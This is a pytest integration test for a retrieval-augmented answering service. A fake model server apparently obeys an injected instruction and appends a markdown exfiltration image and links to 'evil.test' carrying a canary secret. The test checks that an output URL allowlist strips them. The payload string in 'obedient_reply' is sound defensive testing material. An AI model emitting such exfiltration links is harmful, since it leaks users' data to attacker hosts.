"""End to end with a real (fault-injecting) OpenAI-compatible server on 127.0.0.1 whose model
obeys an injected instruction: it appends an exfiltration image and links to its grounded
answer. Neither the streamed tokens nor the final answer may carry them; an allowlisted
link survives."""

from __future__ import annotations

from collections.abc import Callable
from pathlib import Path
from typing import Any

import pytest
from live_server import write_corpus
from support.fault_llm import FaultLLMServer
from support.llm import grounded_reply, provider

from groundwire.answering.service import AnswerDelta, AnswerDone
from groundwire.domain import SearchRequest

pytestmark = pytest.mark.integration
SECRET = "CANARY-7731"


def obedient_reply(body: dict[str, Any]) -> str:
    grounded = grounded_reply(body)
    return (f"{grounded} ![status](https://evil.test/pixel.png?d={SECRET}) See "
            f"[details](http://evil.test/{SECRET}) and [the handbook](https://docs.example.com/"
            f"handbook) or www.evil.test/{SECRET}.")


async def test_streamed_and_final_answers_carry_no_disallowed_url(
    make_settings: Callable[..., Any], real_embedder: Any, tmp_path: Path,
) -> None:
    from groundwire.bootstrap import build_app

    corpus = write_corpus(tmp_path / "corpus")
    with FaultLLMServer(mode="ok") as server:
        server.reply = obedient_reply
        settings = make_settings(
            llm={"providers": [provider("primary", server)], "unsupported": "off"},
            cache={"enabled": False},
            security={"output_url_allowlist": ["docs.example.com"]},
        )
        async with build_app(settings, embedder=real_embedder) as gw:
            await gw.ingest_path(corpus)
            await gw.warm()
            question = SearchRequest("How much does the Team plan cost per user?")
            tokens: list[str] = []
            final = None
            async for event in gw.ask_stream(question):
                if isinstance(event, AnswerDelta):
                    tokens.append(event.text)
                elif isinstance(event, AnswerDone):
                    final = event.answer
            plain = await gw.ask(question)
        assert server.calls == 2  # both answers came from the model
    assert final is not None and final.answerer == "llm"
    for text in [*tokens, final.text, plain.text,
                 *(s["text"] for s in final.verification)]:
        assert "evil.test" not in text and SECRET not in text
    streamed = "".join(tokens)
    for text in (streamed, final.text, plain.text):
        assert "12" in text  # the grounded answer is kept
        assert "[the handbook](https://docs.example.com/handbook)" in text
        assert "details" in text  # a removed link leaves its text
